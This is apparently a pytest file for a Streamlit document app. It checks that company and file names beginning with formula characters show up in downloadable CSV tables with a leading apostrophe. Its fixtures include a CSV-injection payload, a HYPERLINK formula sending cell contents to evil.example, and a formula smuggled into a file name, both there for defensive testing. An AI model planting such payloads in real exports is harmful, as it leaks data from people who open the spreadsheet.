"""Formulas in table downloads (issue 9, "Low — formulas in table downloads"): every `st.dataframe` offers
"Download as CSV" of its raw cells, so a company or file name starting with `=`, `+`, `-`, `@`, tab or CR
must reach the table neutralised (a leading apostrophe, as the product's own CSV export does). Through
the router, on the pages whose tables carry outside text."""

from __future__ import annotations

from sqlmodel import select

from core.platform.db import unit_of_work
from core.platform.models import Company
from tests.support.desk import Desk, run_page

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Hier klicken")'


def cells(at) -> list[object]:
    return [value for frame in at.dataframe for row in frame.value.itertuples(index=False) for value in row]


def test_outside_text_in_every_table_is_no_formula(app, desk: Desk) -> None:
    [doc] = desk.intake("@SUM(A1).pdf")
    with unit_of_work(desk.engine) as s:
        company = s.exec(select(Company).where(Company.name == "Musterfirma GmbH")).one()
        company.name = FORMULA
        s.add(company)
    for who, page in (("viewer", "pages/overview.py"), ("viewer", "pages/companies.py"),
                      ("viewer", "pages/documents.py"), ("admin", "pages/audit_log.py")):
        at = run_page(app, who, page)
        texts = [c for c in cells(at) if isinstance(c, str)]
        assert not [c for c in texts if c.startswith(("=", "+", "-", "@", "\t", "\r"))], (page, texts)
        if page != "pages/audit_log.py":
            assert any(c == "'" + FORMULA for c in texts), page  # the name is there, neutralised
    assert desk.document(doc).file_name == "_SUM(A1).pdf"  # intake already made the file name harmless
